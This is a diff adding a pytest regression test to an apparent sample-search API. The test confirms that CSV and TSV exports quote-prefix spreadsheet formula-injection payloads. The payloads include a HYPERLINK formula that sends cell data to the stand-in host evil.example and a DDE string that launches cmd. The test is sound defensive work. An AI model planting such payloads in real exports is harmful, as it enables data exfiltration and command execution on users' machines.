@@ -310,3 +310,48 @@ def test_empty_pool_answers_empty(tmp_path: Any, monkeypatch: pytest.MonkeyPatch
         assert get(c, "/backend/organism/")["count"] == 0
         assert get(c, "/search?facets=species")["facets"] == {"species": {}}
     reset_backends()
+
+
+FORMULAS = {"supplied_breed": '=HYPERLINK("http://evil.example/?d="&A2,"x")',
+            "sex": "+cmd|' /C calc'!A0", "species": "-2+3+cmd", "gene_bank_name": "@SUM(A1)",
+            "name": "\t=1+1", "alternative_id": "\r=1", "common_name": "'=already quoted"}
+
+
+def test_csv_and_tsv_cells_cannot_carry_formulas_and_json_is_unchanged(
+        tmp_path: Any, monkeypatch: pytest.MonkeyPatch) -> None:
+    """A breed once reached the public CSV/TSV as '=HYPERLINK(...)', live in a spreadsheet."""
+    from chalice import Chalice
+
+    from chalicelib.api import pool
+    from chalicelib.search.port import versioned_name
+    from chalicelib.search.sqlite_backend import SqliteBackend
+    from tests.contract.search.conftest import CONTRACT_DOCS
+
+    doc = {**next(d for d in CONTRACT_DOCS if d["id"] == "SAMEA1001"), **FORMULAS}
+    doc["location"] = {"lat": -33.5, "lon": -70.25}  # negative numbers stay numbers
+    path = tmp_path / "hostile.sqlite3"
+    backend = SqliteBackend(path, alias="imagepool")
+    name = versioned_name("imagepool")
+    backend.create_index(name)
+    backend.bulk_index(name, [doc])
+    backend.finish_loading(name)
+    backend.swap_alias(name)
+    backend.close()
+    monkeypatch.setenv("SEARCH_BACKEND", "sqlite")
+    monkeypatch.setenv("SEARCH_PATH", str(path))
+    reset_backends()
+    app = Chalice("hostile")
+    app.register_blueprint(pool.pool_api)
+    with Client(app) as c:
+        for fmt, delimiter in (("csv", ","), ("tsv", "\t")):
+            body = get(c, f"/download?format={fmt}").body.decode()
+            row = next(csv.DictReader(io.StringIO(body), delimiter=delimiter))
+            for field, value in FORMULAS.items():
+                assert row[field] == "'" + value, (fmt, field)
+            assert (row["latitude"], row["longitude"]) == ("-33.5", "-70.25")
+        old = get(c, "/backend/organism/download/").body.decode()
+        old_row = list(csv.reader(io.StringIO(old), delimiter="\t"))[1]
+        assert old_row[1:4] == ["'" + FORMULAS[f] for f in ("species", "supplied_breed", "sex")]
+        original = get(c, "/download?format=json")[0]
+        assert {f: original[f] for f in FORMULAS} == FORMULAS
+    reset_backends()
